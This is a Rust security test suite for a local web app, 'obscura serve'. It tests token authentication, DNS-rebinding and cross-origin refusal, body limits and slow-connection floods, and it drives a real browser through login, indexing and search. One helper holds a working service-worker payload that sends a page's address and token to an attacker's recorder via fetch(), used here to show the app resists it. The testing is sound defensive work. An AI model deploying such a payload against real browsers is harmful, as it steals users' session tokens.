//! `obscura serve`: the web app, attacked over raw HTTP as another local user or a page of
//! another site would, then used in a real browser (Debian's Chromium, through ChromeDriver).

mod common;

use std::io::{Read, Write};
use std::net::TcpStream;
use std::path::Path;
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

use common::*;

/// A running `obscura serve`, stopped when dropped.
struct Serve {
    child: Child,
    /// `127.0.0.1:PORT`.
    addr: String,
    /// The other loopback address it took, on the same port (where the machine has one).
    also: Vec<String>,
    /// The launch token.
    token: String,
    /// The address it printed, token included.
    url: String,
}

impl Drop for Serve {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

fn serve(dir: &Path) -> Serve {
    serve_on(dir, "127.0.0.1:0")
}

fn serve_on(dir: &Path, listen: &str) -> Serve {
    let mut child = Command::new(BIN)
        .args(["serve", "--cluster"])
        .arg(dir)
        .args(["--listen", listen, "--json"])
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let mut line = String::new();
    let mut out = child.stdout.take().unwrap();
    let mut byte = [0u8; 1];
    while out.read(&mut byte).unwrap() == 1 && byte[0] != b'\n' {
        line.push(byte[0] as char);
    }
    let v: serde_json::Value = serde_json::from_str(&line).expect(&line);
    let url = v["url"].as_str().unwrap().to_string();
    Serve {
        child,
        addr: v["listen"].as_str().unwrap().to_string(),
        also: v["also"]
            .as_array()
            .unwrap()
            .iter()
            .map(|a| a.as_str().unwrap().to_string())
            .collect(),
        token: url.split_once("#token=").unwrap().1.to_string(),
        url,
    }
}

/// An answer: status, headers (lower-case names) and body.
struct Answer {
    status: u16,
    headers: Vec<(String, String)>,
    body: Vec<u8>,
}

impl Answer {
    fn header(&self, name: &str) -> Option<&str> {
        self.headers
            .iter()
            .find(|(n, _)| n == name)
            .map(|(_, v)| v.as_str())
    }

    fn json(&self) -> serde_json::Value {
        serde_json::from_slice(&self.body)
            .unwrap_or_else(|_| panic!("{} {}", self.status, String::from_utf8_lossy(&self.body)))
    }
}

/// One request on its own connection, written byte for byte as given: `head` holds the
/// request line and headers (no Content-Length, no blank line).
fn raw(addr: &str, head: &str, body: &[u8]) -> Answer {
    let mut s = TcpStream::connect(addr).unwrap();
    s.set_read_timeout(Some(Duration::from_secs(120))).unwrap();
    write!(
        s,
        "{head}\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
        body.len()
    )
    .unwrap();
    // A server may refuse before the body is in (too large): it need not be read.
    let _ = s.write_all(body);
    let mut bytes = Vec::new();
    let _ = s.read_to_end(&mut bytes);
    let split = bytes
        .windows(4)
        .position(|w| w == b"\r\n\r\n")
        .expect("an HTTP answer");
    let text = String::from_utf8_lossy(&bytes[..split]).to_string();
    let mut lines = text.split("\r\n");
    let status = lines
        .next()
        .unwrap()
        .split(' ')
        .nth(1)
        .unwrap()
        .parse()
        .unwrap();
    let headers = lines
        .filter_map(|l| l.split_once(": "))
        .map(|(n, v)| (n.to_ascii_lowercase(), v.to_string()))
        .collect();
    let mut body = bytes[split + 4..].to_vec();
    if text
        .to_ascii_lowercase()
        .contains("transfer-encoding: chunked")
    {
        body = unchunk(&body);
    }
    Answer {
        status,
        headers,
        body,
    }
}

fn unchunk(mut b: &[u8]) -> Vec<u8> {
    let mut out = Vec::new();
    loop {
        let end = b.windows(2).position(|w| w == b"\r\n").unwrap();
        let size =
            usize::from_str_radix(std::str::from_utf8(&b[..end]).unwrap().trim(), 16).unwrap();
        if size == 0 {
            return out;
        }
        out.extend_from_slice(&b[end + 2..end + 2 + size]);
        b = &b[end + 4 + size..];
    }
}

/// `METHOD PATH` with this server's own Host and the token, and `extra` header lines.
fn call(s: &Serve, method: &str, path: &str, extra: &[&str], body: &[u8]) -> Answer {
    let mut head = format!(
        "{method} {path} HTTP/1.1\r\nHost: {}\r\nAuthorization: Bearer {}",
        s.addr, s.token
    );
    for e in extra {
        head.push_str("\r\n");
        head.push_str(e);
    }
    raw(&s.addr, &head, body)
}

#[test]
fn the_app_answers_only_to_its_launch_token_its_own_address_and_its_own_origin() {
    let dir = init_cluster("app-attacks");
    let _up = start(&dir);
    let cluster = dir.to_str().unwrap();

    // It acts with the user's session: anywhere but loopback is refused before it listens.
    let out = obscura(&["serve", "--cluster", cluster, "--listen", "0.0.0.0:0"]);
    assert!(!out.status.success());
    // Nor another loopback address: its page's *.localhost name would reach 127.0.0.1, where
    // someone else may listen.
    let other = obscura(&["serve", "--cluster", cluster, "--listen", "127.0.0.2:0"]);
    assert!(!other.status.success(), "{}", text(&other));
    assert!(
        text(&out).contains("loopback address only"),
        "{}",
        text(&out)
    );

    let app = serve(&dir);
    let port = app.addr.rsplit(':').next().unwrap().to_string();
    // A name of its own at each launch, under .localhost, on the port it listens on.
    let site = app
        .url
        .strip_prefix("http://")
        .unwrap()
        .split('/')
        .next()
        .unwrap()
        .to_string();
    assert!(
        site.starts_with('o') && site.ends_with(&format!(".localhost:{port}")),
        "{}",
        app.url
    );
    assert_ne!(
        serve(&dir).url.split('/').nth(2),
        Some(site.as_str()),
        "the same name twice"
    );
    assert_eq!(app.token.len(), 64);
    let host = format!("Host: {}", app.addr);
    // The other loopback address is taken on the same port, where this machine has one; a
    // port whose other address someone else holds is refused.
    if let Ok(v6) = std::net::TcpListener::bind("[::1]:0") {
        assert_eq!(app.also, [format!("[::1]:{port}")]);
        let taken = v6.local_addr().unwrap().port();
        if std::net::TcpListener::bind(("127.0.0.1", taken)).is_ok() {
            let listen = format!("127.0.0.1:{taken}");
            let out = obscura(&["serve", "--cluster", cluster, "--listen", &listen]);
            assert!(!out.status.success());
            assert!(text(&out).contains("is taken"), "{}", text(&out));
        }
    } else {
        eprintln!("note: no ::1 on this machine: only 127.0.0.1 is taken");
    }

    // Another local user, who can reach loopback but holds no token: nothing of the API.
    for (method, path) in [
        ("GET", "/api/session"),
        ("GET", "/api/cluster"),
        ("GET", "/api/secrets"),
        ("POST", "/api/search"),
        ("POST", "/api/index?name=x.png"),
        ("POST", "/api/logout"),
        ("GET", "/api/images/00000000000000000000000000000000"),
        ("GET", "/openapi.json"),
    ] {
        let a = raw(
            &app.addr,
            &format!("{method} {path} HTTP/1.1\r\n{host}"),
            b"",
        );
        assert_eq!(a.status, 401, "{method} {path} without the token");
        let wrong = format!(
            "{method} {path} HTTP/1.1\r\n{host}\r\nAuthorization: Bearer {}",
            "0".repeat(64)
        );
        assert_eq!(
            raw(&app.addr, &wrong, b"").status,
            401,
            "{method} {path}, wrong token"
        );
        // A token in a cookie (which every port of the host would be sent) is no token.
        let cookie = format!(
            "{method} {path} HTTP/1.1\r\n{host}\r\nCookie: token={}",
            app.token
        );
        assert_eq!(
            raw(&app.addr, &cookie, b"").status,
            401,
            "{method} {path}, cookie"
        );
    }
    // The page itself carries no secret, sets no cookie, and runs no script but its own.
    let page = raw(&app.addr, &format!("GET / HTTP/1.1\r\n{host}"), b"");
    assert_eq!(page.status, 200);
    assert!(!String::from_utf8_lossy(&page.body).contains(&app.token));
    assert!(page.header("set-cookie").is_none());
    let csp = page.header("content-security-policy").unwrap();
    assert!(
        csp.contains("script-src 'self'") && csp.contains("frame-ancestors 'none'"),
        "{csp}"
    );

    // With the token, from a DNS-rebinding page (its own host name resolved to 127.0.0.1).
    let a = call(&app, "GET", "/api/session", &[], b"");
    assert_eq!(a.status, 200);
    assert_eq!(a.json()["user"], "admin");
    let rebound = format!(
        "GET /api/session HTTP/1.1\r\nHost: evil.example:{}\r\nAuthorization: Bearer {}",
        app.addr.rsplit(':').next().unwrap(),
        app.token
    );
    assert_eq!(raw(&app.addr, &rebound, b"").status, 403);
    assert_eq!(
        raw(&app.addr, &rebound.replace("/api/session", "/"), b"").status,
        403
    );
    // Nor `localhost`, which a browser may send to whoever listens on ::1 at that port.
    let local = rebound.replace("evil.example:", "localhost:");
    assert_eq!(raw(&app.addr, &local, b"").status, 403);
    // Its own name is its own.
    let named = rebound.replace(&format!("evil.example:{port}"), &site);
    assert_eq!(raw(&app.addr, &named, b"").status, 200);
    // From another origin or site, even holding the token (a leaked one, a confused page).
    for extra in [
        "Origin: http://evil.example",
        "Origin: null",
        &format!("Origin: http://{}.evil.example", app.addr),
        "Sec-Fetch-Site: cross-site",
        "Sec-Fetch-Site: same-site",
    ] {
        let a = call(&app, "POST", "/api/logout", &[extra], b"");
        assert_eq!(a.status, 403, "{extra}");
    }
    // Still logged in: none of those got through.
    assert_eq!(
        call(&app, "GET", "/api/session", &[], b"").json()["user"],
        "admin"
    );
    // A preflight from another origin is granted nothing.
    let pre = call(
        &app,
        "OPTIONS",
        "/api/logout",
        &[
            "Origin: http://evil.example",
            "Access-Control-Request-Method: POST",
        ],
        b"",
    );
    assert!(pre.header("access-control-allow-origin").is_none());
    // Its own origin is fine.
    let own = format!("Origin: http://{}", app.addr);
    assert_eq!(
        call(
            &app,
            "GET",
            "/api/session",
            &[&own, "Sec-Fetch-Site: same-origin"],
            b""
        )
        .status,
        200
    );

    let own = format!("Origin: http://{site}");
    assert_eq!(call(&app, "GET", "/api/session", &[&own], b"").status, 200);

    // Bounded: a body over 32 MiB is refused, and bad values are told apart from failures.
    let big = vec![0u8; (32 << 20) + 1];
    assert_eq!(call(&app, "POST", "/api/search", &[], &big).status, 413);
    assert_eq!(
        call(&app, "POST", "/api/search?top=0", &[], b"x").status,
        400
    );
    assert_eq!(
        call(&app, "POST", "/api/search", &[], b"not an image").status,
        422
    );
    assert_eq!(call(&app, "GET", "/api/images/zz", &[], b"").status, 400);
    assert_eq!(
        call(
            &app,
            "GET",
            "/api/images/00000000000000000000000000000000?thumbnail=5000",
            &[],
            b""
        )
        .status,
        400
    );
    assert_eq!(
        call(&app, "POST", "/api/index?name=a%0Ab.png", &[], b"x").status,
        400
    );
    assert_eq!(
        call(&app, "POST", "/api/index?name=a.png", &[], b"").status,
        400
    );

    // The API does what the command line does: index, search with a variant, rebuild.
    let photo = std::fs::read(testdata("photos/coffee.png")).unwrap();
    let a = call(&app, "POST", "/api/index?name=coffee.png", &[], &photo);
    assert_eq!(a.status, 200, "{}", String::from_utf8_lossy(&a.body));
    let id = a.json()["id"].as_str().unwrap().to_string();
    assert_eq!(a.json()["ledger"], true);
    let skipped = call(
        &app,
        "POST",
        "/api/index?name=notes.txt",
        &[],
        b"plain text",
    );
    assert_eq!(skipped.status, 200);
    assert!(skipped.json()["id"].is_null() && skipped.json()["skipped"].is_string());
    let variant = std::fs::read(testdata("derived/coffee.q75.jpg")).unwrap();
    let found = call(&app, "POST", "/api/search?top=3", &[], &variant).json();
    assert_eq!(found["results"][0]["id"], id.as_str(), "{found}");
    assert_eq!(found["results"][0]["file"], "coffee.png");
    let full = call(&app, "GET", &format!("/api/images/{id}"), &[], b"");
    assert_eq!(full.status, 200);
    assert_eq!(full.header("content-type"), Some("image/png"));
    assert!(full.body == photo, "the image rebuilt is the one indexed");
    let thumb = call(
        &app,
        "GET",
        &format!("/api/images/{id}?thumbnail=64"),
        &[],
        b"",
    );
    assert_eq!(thumb.status, 200);
    assert!(thumb.body.starts_with(b"\x89PNG"));
    assert_eq!(
        call(
            &app,
            "GET",
            "/api/images/00000000000000000000000000000001",
            &[],
            b""
        )
        .status,
        404
    );
    let status = call(&app, "GET", "/api/cluster", &[], b"").json();
    assert_eq!(status["status"]["nodes"].as_array().unwrap().len(), NODES);
    // The user's own mistakes above (refused bodies, a text file, an unknown image) are not
    // the cluster's errors.
    assert_eq!(status["errors"], serde_json::json!([]), "{status}");
    assert!(
        status["audit"]
            .as_array()
            .unwrap()
            .iter()
            .all(|n| n["ok"] == true),
        "{status}"
    );

    // Every route the document names answers (none is a 404 of the router), and every route
    // tried above is in the document.
    let doc = call(&app, "GET", "/openapi.json", &[], b"").json();
    let paths = doc["paths"].as_object().unwrap();
    for (path, item) in paths {
        for method in item.as_object().unwrap().keys() {
            let concrete = path.replace("{id}", &id);
            let a = call(
                &app,
                &method.to_uppercase(),
                &concrete,
                &["Content-Type: application/json"],
                b"{}",
            );
            assert_ne!(
                a.status, 404,
                "{method} {path} is documented but not routed"
            );
            assert_ne!(
                a.status, 405,
                "{method} {path} is documented but not routed"
            );
        }
    }
    for p in [
        "/api/session",
        "/api/login",
        "/api/logout",
        "/api/password",
        "/api/search",
        "/api/index",
        "/api/images/{id}",
        "/api/cluster",
        "/api/secrets",
    ] {
        assert!(paths.contains_key(p), "{p} is routed but not documented");
    }

    // Whoever holds no token can hold connections, but not for long and not without bound:
    // 64 at once, each sending its headers slowly, then the next is closed at once; 10 s later
    // the slow ones are gone and the app answers again.
    let slow: Vec<TcpStream> = (0..64)
        .map(|_| {
            let mut s = TcpStream::connect(&app.addr).unwrap();
            s.write_all(b"GET / HTTP/1.1\r\n").unwrap();
            s
        })
        .collect();
    std::thread::sleep(Duration::from_millis(300));
    let mut extra = TcpStream::connect(&app.addr).unwrap();
    extra
        .set_read_timeout(Some(Duration::from_secs(5)))
        .unwrap();
    let _ = extra.write_all(format!("GET /api/session HTTP/1.1\r\n{host}\r\n\r\n").as_bytes());
    let mut buf = [0u8; 64];
    // Closed at once: not served, and not left waiting either.
    let closed = match extra.read(&mut buf) {
        Ok(n) => n == 0,
        Err(e) => e.kind() == std::io::ErrorKind::ConnectionReset,
    };
    assert!(closed, "a 65th connection was served or kept waiting");
    let mut first = slow.into_iter().next().unwrap();
    first
        .set_read_timeout(Some(Duration::from_secs(20)))
        .unwrap();
    let started = Instant::now();
    let mut rest = Vec::new();
    let _ = first.read_to_end(&mut rest);
    assert!(
        started.elapsed() < Duration::from_secs(15),
        "a slow connection stayed open"
    );
    std::thread::sleep(Duration::from_millis(500));
    assert_eq!(call(&app, "GET", "/api/session", &[], b"").status, 200);

    // The cluster page lists the last errors the app met: a node down, as a search's warning
    // and as the status found it, once however often it is met.
    let login = serde_json::json!({"user": "admin", "password": ADMIN_PASSWORD}).to_string();
    let json = "Content-Type: application/json";
    let a = call(&app, "POST", "/api/login", &[json], login.as_bytes());
    assert_eq!(a.status, 200, "{}", String::from_utf8_lossy(&a.body));
    stop_node(&dir, 1, "KILL");
    let found = call(&app, "POST", "/api/search?top=3", &[], &variant).json();
    assert_eq!(found["results"][0]["id"], id.as_str(), "{found}");
    let warned = found["warnings"].as_array().unwrap();
    assert!(
        warned
            .iter()
            .any(|w| w.as_str().unwrap().starts_with("node 1")),
        "{found}"
    );
    call(&app, "GET", "/api/cluster", &[], b"");
    let status = call(&app, "GET", "/api/cluster", &[], b"").json();
    let errors = status["errors"].as_array().unwrap();
    let down: Vec<_> = errors
        .iter()
        .filter(|e| e["op"] == "cluster" && e["error"].as_str().unwrap().starts_with("node 1: "))
        .collect();
    assert_eq!(down.len(), 1, "{status}");
    assert_eq!(down[0]["times"], 2, "{status}");
    assert!(down[0]["last_local"].is_string() && down[0]["first"].is_string());
    assert!(
        errors
            .iter()
            .any(|e| e["op"] == "search" && e["error"] == warned[0]),
        "{status}"
    );
    assert_eq!(errors[0]["op"], "cluster", "newest first: {status}");
    // A search the cluster cannot answer (4 of 6 nodes down, 3 needed) is listed too.
    for node in 2..=4 {
        stop_node(&dir, node, "KILL");
    }
    let failed = call(&app, "POST", "/api/search", &[], &variant);
    assert_eq!(
        failed.status,
        502,
        "{}",
        String::from_utf8_lossy(&failed.body)
    );
    let status = call(&app, "GET", "/api/cluster", &[], b"").json();
    assert!(
        status["errors"]
            .as_array()
            .unwrap()
            .iter()
            .any(|e| e["op"] == "search" && e["error"] == failed.json()["error"]),
        "{status}"
    );
    // They are the account's: gone at logout (what the cluster page finds then is new).
    assert_eq!(call(&app, "POST", "/api/logout", &[], b"").status, 200);
    let status = call(&app, "GET", "/api/cluster", &[], b"").json();
    let errors = status["errors"].as_array().unwrap();
    assert!(errors.iter().all(|e| e["op"] == "cluster"), "{status}");
}

/// ChromeDriver on a free port, stopped when dropped.
struct Driver {
    child: Child,
    port: u16,
    session: String,
    profile: std::path::PathBuf,
}

impl Drop for Driver {
    fn drop(&mut self) {
        let _ = self.send("DELETE", &format!("/session/{}", self.session), None);
        let _ = self.child.kill();
        let _ = self.child.wait();
        std::fs::remove_dir_all(&self.profile).ok();
    }
}

const ELEMENT: &str = "element-6066-11e4-a52e-4f735466cecf";

impl Driver {
    fn start() -> Option<Driver> {
        let (chromium, chromedriver) = ("/usr/bin/chromium", "/usr/bin/chromedriver");
        if !Path::new(chromedriver).exists() || !Path::new(chromium).exists() {
            assert!(
                std::env::var_os("CI").is_none(),
                "{chromedriver} or {chromium} is missing: .ci/run installs Debian's chromium and \
                 chromium-driver"
            );
            eprintln!(
                "SKIPPED: the browser test needs Debian's chromium and chromium-driver \
                 (apt-get install chromium chromium-driver; .ci/run installs them)"
            );
            return None;
        }
        let port = free_ports(1);
        let child = Command::new(chromedriver)
            .arg(format!("--port={port}"))
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .unwrap();
        let profile = std::env::temp_dir().join(format!("obscura-chromium-{}", std::process::id()));
        let mut driver = Driver {
            child,
            port,
            session: String::new(),
            profile,
        };
        let deadline = Instant::now() + Duration::from_secs(20);
        while driver.send("GET", "/status", None).is_err() {
            assert!(Instant::now() < deadline, "chromedriver did not start");
            std::thread::sleep(Duration::from_millis(100));
        }
        let capabilities = serde_json::json!({"capabilities": {"alwaysMatch": {
            "browserName": "chrome",
            "goog:chromeOptions": {"binary": chromium, "args": [
                "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic",
                "--no-first-run", "--disable-background-networking",
                "--disable-component-update", "--disable-sync", "--disable-dev-shm-usage", "--window-size=1200,900",
                format!("--user-data-dir={}", driver.profile.display()),
            ]}
        }}});
        let v = driver.send("POST", "/session", Some(capabilities)).unwrap();
        driver.session = v["sessionId"].as_str().expect("a session").to_string();
        Some(driver)
    }

    /// A WebDriver command; its `value`.
    fn send(
        &self,
        method: &str,
        path: &str,
        body: Option<serde_json::Value>,
    ) -> Result<serde_json::Value, String> {
        let mut s = TcpStream::connect(("127.0.0.1", self.port)).map_err(|e| e.to_string())?;
        let body = body.map(|b| b.to_string()).unwrap_or_default();
        write!(
            s,
            "{method} {path} HTTP/1.1\r\nHost: 127.0.0.1:{}\r\nContent-Type: application/json\r\n\
             Content-Length: {}\r\nConnection: close\r\n\r\n{body}",
            self.port,
            body.len()
        )
        .map_err(|e| e.to_string())?;
        // ChromeDriver keeps the connection open whatever the request says: read the headers,
        // then as many bytes as they announce.
        s.set_read_timeout(Some(Duration::from_secs(120)))
            .map_err(|e| e.to_string())?;
        let mut bytes = Vec::new();
        let mut chunk = [0u8; 8192];
        let at = loop {
            if let Some(at) = bytes.windows(4).position(|w| w == b"\r\n\r\n") {
                break at;
            }
            let n = s.read(&mut chunk).map_err(|e| e.to_string())?;
            if n == 0 {
                return Err("closed before an answer".into());
            }
            bytes.extend_from_slice(&chunk[..n]);
        };
        let head = String::from_utf8_lossy(&bytes[..at]).to_ascii_lowercase();
        let length: usize = head
            .lines()
            .find_map(|l| l.strip_prefix("content-length:"))
            .ok_or("no content-length")?
            .trim()
            .parse()
            .map_err(|_| "a bad content-length")?;
        let mut body = bytes[at + 4..].to_vec();
        while body.len() < length {
            let n = s.read(&mut chunk).map_err(|e| e.to_string())?;
            if n == 0 {
                return Err("closed inside an answer".into());
            }
            body.extend_from_slice(&chunk[..n]);
        }
        let v: serde_json::Value = serde_json::from_slice(&body).map_err(|e| e.to_string())?;
        if v["value"]["error"].is_string() {
            return Err(v["value"].to_string());
        }
        Ok(v["value"].clone())
    }

    fn command(&self, method: &str, what: &str, body: serde_json::Value) -> serde_json::Value {
        let body = (!body.is_null()).then_some(body);
        self.send(method, &format!("/session/{}/{what}", self.session), body)
            .unwrap_or_else(|e| panic!("{what}: {e}"))
    }

    fn find(&self, css: &str) -> String {
        let v = self.command(
            "POST",
            "element",
            serde_json::json!({"using": "css selector", "value": css}),
        );
        v[ELEMENT]
            .as_str()
            .unwrap_or_else(|| panic!("{css}: {v}"))
            .to_string()
    }

    fn click(&self, css: &str) {
        let e = self.find(css);
        self.command("POST", &format!("element/{e}/click"), serde_json::json!({}));
    }

    fn type_in(&self, css: &str, text: &str) {
        let e = self.find(css);
        self.command(
            "POST",
            &format!("element/{e}/value"),
            serde_json::json!({"text": text}),
        );
    }

    fn script(&self, script: &str) -> serde_json::Value {
        self.command(
            "POST",
            "execute/sync",
            serde_json::json!({"script": script, "args": []}),
        )
    }

    /// Wait until `script` returns true; the page's text if it never does.
    fn wait_for(&self, what: &str, script: &str) {
        let deadline = Instant::now() + Duration::from_secs(90);
        while self.script(script) != serde_json::json!(true) {
            if Instant::now() > deadline {
                let text = self.script("return document.body.innerText");
                panic!(
                    "{what} never happened; the page says:\n{}",
                    text.as_str().unwrap_or("")
                );
            }
            std::thread::sleep(Duration::from_millis(200));
        }
    }
}

#[test]
fn in_a_browser_a_user_logs_in_indexes_three_photos_and_finds_a_jpeg_variant() {
    let Some(browser) = Driver::start() else {
        return;
    };
    let dir = init_cluster("app-browser");
    let _up = start(&dir);
    let cluster = dir.to_str().unwrap();
    // The browser logs in itself.
    let out = obscura(&["logout", "--cluster", cluster]);
    assert!(out.status.success(), "{}", text(&out));
    // Before the app ever runs, another local user serves 127.0.0.1:PORT once, and the
    // victim's browser visits it: a service worker is left behind for that origin, which
    // answers any later page load there with a page that sends the address (fragment and
    // all) to the attacker's recorder.
    let port = free_ports(1);
    let recorder = Recorder::start();
    let squatter = Squatter::start(port, recorder.port);
    browser.command(
        "POST",
        "url",
        serde_json::json!({"url": format!("http://127.0.0.1:{port}/")}),
    );
    browser.wait_for(
        "the service worker installed",
        "return document.title === 'installed'",
    );
    drop(squatter);
    // It works where an origin is served again: a decoy token opened there is stolen.
    // (From another page: a change of fragment alone loads nothing.)
    browser.command("POST", "url", serde_json::json!({"url": "about:blank"}));
    let decoy = format!("http://127.0.0.1:{port}/#token={}", "d".repeat(64));
    browser.command("POST", "url", serde_json::json!({"url": decoy}));
    recorder.wait_for(&"d".repeat(64));

    // The app on that very port: its page's origin is a new name, which no worker controls.
    let app = serve_on(&dir, &format!("127.0.0.1:{port}"));
    browser.command("POST", "url", serde_json::json!({"url": app.url}));
    browser.wait_for(
        "the page loaded, logged out",
        "return document.getElementById('whoami').textContent === 'not logged in'",
    );
    // The token left the address bar as soon as the page read it, and reached no one else.
    let site = app.url.split("#token=").next().unwrap();
    assert_eq!(
        browser.script("return location.href"),
        serde_json::json!(site)
    );
    assert!(!recorder.heard(&app.token), "the token was stolen");
    browser.type_in("#user", "admin");
    browser.type_in("#password", ADMIN_PASSWORD);
    browser.click("#login");
    browser.wait_for(
        "login",
        "return document.getElementById('whoami').textContent === 'admin (data owner)'",
    );

    browser.click(".tab[data-page=index]");
    let photos = three_photos("app-browser");
    let files: Vec<String> = ["camera.png", "coffee.png", "rocket.jpg"]
        .iter()
        .map(|f| photos.join(f).display().to_string())
        .collect();
    browser.type_in("#files", &files.join("\n"));
    browser.wait_for(
        "three photos indexed",
        "return document.getElementById('index-summary').textContent === '3 indexed, 0 skipped'",
    );

    browser.click(".tab[data-page=search]");
    // ChromeDriver takes canonical paths only.
    let variant = std::fs::canonicalize(testdata("derived/rocket.q75.jpg")).unwrap();
    browser.type_in("#query", variant.to_str().unwrap());
    browser.wait_for(
        "the top match, with its thumbnail",
        "const first = document.querySelector('#results .match');
         const img = first && first.querySelector('img.thumb');
         return !!(img && img.complete && img.naturalWidth > 0)",
    );
    let top = browser.script(
        "const first = document.querySelector('#results .match');
         return [first.querySelector('.file').textContent, first.querySelector('.distance').textContent]",
    );
    assert_eq!(top[0], "rocket.jpg", "{top}");
    assert_eq!(top[1], "distance 0", "{top}");

    // The screenshot of the search page (the README's, when OBSCURA_SCREENSHOT names a file).
    let shot = browser.command("GET", "screenshot", serde_json::Value::Null);
    let png = base64_decode(shot.as_str().unwrap());
    assert!(
        png.starts_with(b"\x89PNG\r\n\x1a\n") && png.len() > 10_000,
        "{} bytes",
        png.len()
    );
    let at = std::path::PathBuf::from(env!("CARGO_TARGET_TMPDIR")).join("app-search.png");
    std::fs::write(&at, &png).unwrap();
    if let Some(copy) = std::env::var_os("OBSCURA_SCREENSHOT") {
        std::fs::write(copy, &png).unwrap();
    }

    // The cluster page: every server, and a node gone down among its last errors.
    stop_node(&dir, 6, "KILL");
    browser.click(".tab[data-page=cluster]");
    browser.wait_for(
        "the cluster page, with node 6 down and among the last errors",
        "const rows = document.querySelectorAll('#servers tbody tr');
         const errors = document.getElementById('errors').textContent;
         return rows.length === 9 && rows[5].textContent.includes('down: unreachable')
           && errors.includes('node 6: unreachable')",
    );
    std::fs::remove_dir_all(&photos).ok();
}

/// The attacker's listener: every request line it is sent, kept.
struct Recorder {
    port: u16,
    heard: std::sync::Arc<std::sync::Mutex<Vec<String>>>,
}

impl Recorder {
    fn start() -> Recorder {
        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let heard = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
        let keep = heard.clone();
        std::thread::spawn(move || {
            for mut s in listener.incoming().flatten() {
                let mut buf = [0u8; 4096];
                let n = s.read(&mut buf).unwrap_or(0);
                let line = String::from_utf8_lossy(&buf[..n])
                    .lines()
                    .next()
                    .unwrap_or("")
                    .to_string();
                keep.lock().unwrap().push(line);
                let _ = s.write_all(b"HTTP/1.1 204 No Content\r\nConnection: close\r\n\r\n");
            }
        });
        Recorder { port, heard }
    }

    fn heard(&self, what: &str) -> bool {
        self.heard.lock().unwrap().iter().any(|l| l.contains(what))
    }

    fn wait_for(&self, what: &str) {
        let deadline = Instant::now() + Duration::from_secs(30);
        while !self.heard(what) {
            assert!(Instant::now() < deadline, "the recorder never heard {what}");
            std::thread::sleep(Duration::from_millis(100));
        }
    }
}

/// Another user's server on 127.0.0.1:PORT, until dropped: its page registers a service worker
/// that answers every later page load of the origin with a page sending its address to the
/// recorder.
struct Squatter {
    stop: std::sync::Arc<std::sync::atomic::AtomicBool>,
    thread: Option<std::thread::JoinHandle<()>>,
}

impl Squatter {
    fn start(port: u16, recorder: u16) -> Squatter {
        let listener = std::net::TcpListener::bind(("127.0.0.1", port)).unwrap();
        listener.set_nonblocking(true).unwrap();
        let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
        let stopping = stop.clone();
        let page = "<!doctype html><title>squatter</title><script>navigator.serviceWorker\
            .register('/sw.js').then(() => navigator.serviceWorker.ready)\
            .then(() => { document.title = 'installed'; });</script>";
        let worker = format!(
            "self.addEventListener('install', () => self.skipWaiting());\
             self.addEventListener('activate', e => e.waitUntil(self.clients.claim()));\
             self.addEventListener('fetch', e => {{ if (e.request.mode === 'navigate') \
             e.respondWith(new Response('<script>fetch(\"http://127.0.0.1:{recorder}/?\" + \
             encodeURIComponent(location.href), {{mode: \"no-cors\"}})</script>', \
             {{headers: {{'Content-Type': 'text/html'}}}})); }});"
        );
        let thread = std::thread::spawn(move || {
            while !stopping.load(std::sync::atomic::Ordering::Relaxed) {
                let Ok((mut s, _)) = listener.accept() else {
                    std::thread::sleep(Duration::from_millis(20));
                    continue;
                };
                s.set_nonblocking(false).unwrap();
                let mut buf = [0u8; 4096];
                let n = s.read(&mut buf).unwrap_or(0);
                let request = String::from_utf8_lossy(&buf[..n]);
                let (kind, body) = if request.starts_with("GET /sw.js") {
                    ("text/javascript", worker.as_str())
                } else {
                    ("text/html", page)
                };
                let _ = write!(
                    s,
                    "HTTP/1.1 200 OK\r\nContent-Type: {kind}\r\nContent-Length: {}\r\n\
                     Connection: close\r\n\r\n{body}",
                    body.len()
                );
            }
        });
        Squatter {
            stop,
            thread: Some(thread),
        }
    }
}

impl Drop for Squatter {
    fn drop(&mut self) {
        self.stop.store(true, std::sync::atomic::Ordering::Relaxed);
        if let Some(t) = self.thread.take() {
            let _ = t.join();
        }
    }
}

fn base64_decode(s: &str) -> Vec<u8> {
    let value = |c: u8| match c {
        b'A'..=b'Z' => c - b'A',
        b'a'..=b'z' => c - b'a' + 26,
        b'0'..=b'9' => c - b'0' + 52,
        b'+' => 62,
        b'/' => 63,
        _ => panic!("not base64: {c}"),
    };
    let digits: Vec<u8> = s.bytes().filter(|&c| c != b'=').map(value).collect();
    let mut out = Vec::with_capacity(digits.len() * 3 / 4);
    for chunk in digits.chunks(4) {
        let n = chunk
            .iter()
            .enumerate()
            .fold(0u32, |n, (i, &d)| n | u32::from(d) << (18 - 6 * i));
        out.extend_from_slice(&n.to_be_bytes()[1..chunk.len()]);
    }
    out
}

/// Schemathesis, from the virtual environment `.ci/python` makes (`OBSCURA_TEST_PYTHON`).
fn schemathesis() -> Option<std::path::PathBuf> {
    let Some(python) = std::env::var_os("OBSCURA_TEST_PYTHON") else {
        assert!(
            std::env::var_os("CI").is_none(),
            "OBSCURA_TEST_PYTHON is not set: .ci/run sets it from .ci/python"
        );
        eprintln!(
            "SKIPPED: the OpenAPI check needs schemathesis: OBSCURA_TEST_PYTHON=$(.ci/python)"
        );
        return None;
    };
    let st = Path::new(&python).with_file_name("st");
    assert!(
        st.exists(),
        "{} is missing: .ci/python installs schemathesis",
        st.display()
    );
    Some(st)
}

#[test]
fn the_api_answers_as_its_openapi_document_says() {
    let Some(st) = schemathesis() else {
        return;
    };
    let dir = init_cluster("app-openapi");
    let _up = start(&dir);
    let app = serve(&dir);
    let work = std::env::temp_dir().join(format!("obscura-schemathesis-{}", std::process::id()));
    std::fs::create_dir_all(&work).unwrap();
    // Every check, on every operation but those that would change the session or hammer the
    // keepers' login limits (login, logout, password: the browser test and the raw-HTTP test
    // drive them). Not `positive_data_acceptance`: any bytes are a schema-valid body, and
    // bytes that are no image are refused (422), as they must be.
    let out = Command::new(st)
        .arg("run")
        .arg(format!("http://{}/openapi.json", app.addr))
